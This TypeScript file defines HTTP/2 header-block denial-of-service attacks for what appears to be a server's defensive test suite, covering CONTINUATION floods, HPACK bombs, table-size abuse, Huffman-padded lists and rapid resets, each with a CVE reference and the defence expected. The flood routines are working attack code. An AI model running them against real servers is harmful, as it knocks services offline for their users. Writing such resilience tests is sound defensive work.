// Header blocks without end, or that are far larger once decoded, or that no table should keep.

import type { Attack } from "../attack.js";
import {
  CONTINUATION,
  END_STREAM,
  frame,
  HEADER_TABLE_SIZE,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  PUSH_PROMISE,
  repeat,
  reset,
  settings,
  words,
} from "../frames.js";
import { huffmanZeros, indexed, inserted, literal, tableSize } from "../header-block.js";
import { all, answeredOnly, borne, cutOff, noHandlerRan } from "../judges.js";
import { requestBlock, Streams } from "../requests.js";
import { pour, stay } from "../victim-service.js";

const CALM = "ENHANCE_YOUR_CALM";
const CONTINUATION_FLOOD = "CVE-2024-27983";
/** As large as an entry of a table of 4 KiB can be, less some room. */
const LARGE_VALUE = "v".repeat(3_900);

function continuations(part: Buffer, atOnce: number): Attack["run"] {
  const next = repeat(frame(CONTINUATION, 0, 1, part), atOnce);
  return (campaign) =>
    campaign.wave({}, (connection) => {
      connection.send(frame(HEADERS, END_STREAM, 1, requestBlock(stay.path)));
      return campaign.flood(connection, atOnce, () => next);
    });
}

/** Requests without end, whose blocks `next` gives. */
function floodOfRequests(next: (streams: Streams, at: number) => Buffer): Attack["run"] {
  const atOnce = 16;
  return (campaign) =>
    campaign.wave({}, (connection) => {
      const streams = new Streams(stay.path);
      return campaign.flood(connection, atOnce, () =>
        Buffer.concat(Array.from({ length: atOnce }, () => next(streams, streams.nextId))),
      );
    });
}

export const headerBlocks: readonly Attack[] = [
  {
    name: "continuation-flood",
    does: "sends a header block that goes on and on in CONTINUATION frames of 16 KiB",
    reference: CONTINUATION_FLOOD,
    defence: "at most 8 CONTINUATION frames and twice the size of a header list for each block",
    run: continuations(repeat(literal("x", "y"), 3_200), 4),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "continuation-flood-empty",
    does: "sends a header block that goes on and on in empty CONTINUATION frames",
    reference: "CVE-2026-33871",
    defence: "empty CONTINUATION frames count like others",
    run: continuations(Buffer.alloc(0), 1_000),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "hpack-bomb",
    does: "refers to one large table entry thousands of times in a block of 4 KiB",
    reference: "CVE-2016-6581",
    defence:
      "the header list counts as decoded, 16 KiB and 128 fields at most; nothing is built beyond that, and eight times as much ends the connection",
    run: floodOfRequests((streams, id) => {
      const first = id === 1 ? inserted("x", LARGE_VALUE) : Buffer.alloc(0);
      const references = repeat(indexed(0), 4_000);
      const payload = Buffer.concat([requestBlock(stay.path), first, references]);
      return streams.openWith(payload, END_STREAM);
    }),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "hpack-pin",
    does: "has 250 calls with 15 KiB of metadata from a few octets each, and windows of 0 to keep them",
    reference: "CVE-2026-49975",
    least: { connections: 1, frames: 500 },
    defence:
      "references share their table entry's text, streams are limited, and stalled writers are ended",
    async run(campaign) {
      const connection = await campaign.connect({ settings: [[INITIAL_WINDOW_SIZE, 0]] });
      const streams = new Streams(pour.path);
      for (let count = 0; count < 250; count++) {
        const first = count === 0 ? inserted("x", LARGE_VALUE) : Buffer.alloc(0);
        const payload = Buffer.concat([requestBlock(pour.path), first, repeat(indexed(0), 3)]);
        connection.send(streams.openWith(payload));
        connection.send(streams.messageOnLast());
      }
      await campaign.pause(Number.POSITIVE_INFINITY);
    },
    judge: borne,
  },
  {
    name: "table-size",
    does: "allows a header table of 4 GiB at the server",
    least: { connections: 1, frames: 500 },
    defence: "the encoder's table has at most 4 KiB whatever the peer allows",
    async run(campaign) {
      const connection = await campaign.connect({ settings: [[HEADER_TABLE_SIZE, 0xffff_ffff]] });
      const streams = new Streams(stay.path);
      while (!campaign.isOver) {
        // Each answer names another method, so that each could be another entry.
        const calls = Array.from({ length: 50 }, (_, at) =>
          streams.openWith(requestBlock(`/attacks.Victim/M${streams.nextId + at}`), END_STREAM),
        );
        await connection.push(Buffer.concat(calls), calls.length, campaign.untilMs);
        await campaign.pause(10);
      }
    },
    judge: all(borne, answeredOnly("grpc-status 12")),
  },
  {
    name: "table-size-flapping",
    does: "changes the size of the server's header table without end",
    defence: "each SETTINGS frame costs",
    run: (campaign) =>
      campaign.wave({}, (connection) =>
        campaign.flood(connection, 200, () =>
          repeat(
            Buffer.concat([
              settings([HEADER_TABLE_SIZE, 0]),
              settings([HEADER_TABLE_SIZE, 65_536]),
            ]),
            100,
          ),
        ),
      ),
    judge: cutOff(CALM),
  },
  {
    name: "table-size-update",
    does: "makes its own table larger than the server allowed",
    defence: "a size update beyond the limit is COMPRESSION_ERROR",
    run: (campaign) =>
      campaign.wave({}, async (connection) => {
        const payload = Buffer.concat([tableSize(1 << 30), requestBlock(stay.path)]);
        connection.send(new Streams(stay.path).openWith(payload, END_STREAM));
      }),
    judge: all(noHandlerRan, cutOff("COMPRESSION_ERROR")),
  },
  {
    name: "empty-names",
    does: "sends header fields whose names are empty",
    reference: "CVE-2019-9516",
    defence: "an empty name is malformed: the stream is reset, and resets count",
    run: floodOfRequests((streams) =>
      streams.openWith(requestBlock(stay.path, [["", "v"]]), END_STREAM),
    ),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "tiny-names",
    does: "sends thousands of fields with names of one octet and no value",
    reference: "CVE-2019-9516",
    defence:
      "each field counts 32 octets more than it has, a list has at most 128, and four times as many end the connection",
    run: floodOfRequests((streams) => {
      const fields = repeat(literal("x", ""), 1_000);
      const payload = Buffer.concat([requestBlock(stay.path), fields]);
      return streams.openWith(payload, END_STREAM);
    }),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "large-lists",
    does: "sends header lists that are just not so large as to end the connection",
    defence: "a header list that is too large costs, and so does every 192 octets of its block",
    run: floodOfRequests((streams) => {
      const fields = repeat(literal("x", ""), 500);
      const payload = Buffer.concat([requestBlock(stay.path), fields]);
      return streams.openWith(payload, END_STREAM);
    }),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "huffman-lists",
    does: "sends header lists that are too large in 15 KiB of Huffman's shortest codes each",
    defence: "a header list that is too large costs, and so does every 192 octets of its block",
    run: floodOfRequests((streams) => {
      const payload = Buffer.concat([requestBlock(stay.path), huffmanZeros("x", 24_000)]);
      return streams.openWith(payload, END_STREAM);
    }),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "huffman-reset",
    does: "opens streams with 15,000 octets of metadata in Huffman's shortest codes and resets them at once",
    reference: "CVE-2023-44487",
    defence: "a reset costs more where header blocks are longer than 2 KiB on average",
    run: floodOfRequests((streams) => {
      const payload = Buffer.concat([requestBlock(stay.path), huffmanZeros("x", 15_000)]);
      const headers = streams.openWith(payload);
      return Buffer.concat([headers, streams.messageOnLast(), reset(streams.lastId)]);
    }),
    judge: cutOff(CALM),
  },
  {
    name: "empty-headers",
    does: "opens streams with empty header blocks",
    reference: "CVE-2019-9518",
    defence: "a request without its pseudo-header fields is reset, and resets count",
    run: floodOfRequests((streams) => streams.openWith(Buffer.alloc(0), END_STREAM)),
    judge: all(noHandlerRan, cutOff(CALM)),
  },
  {
    name: "push-promise",
    does: "sends PUSH_PROMISE, which no client may",
    reference: "CVE-2019-9518",
    defence: "PUSH_PROMISE is PROTOCOL_ERROR",
    run: (campaign) =>
      campaign.wave({}, async (connection) => {
        connection.send(new Streams(stay.path).open());
        const payload = Buffer.concat([words(2), requestBlock(stay.path)]);
        connection.send(frame(PUSH_PROMISE, 4, 1, payload));
      }),
    judge: cutOff("PROTOCOL_ERROR"),
  },
];
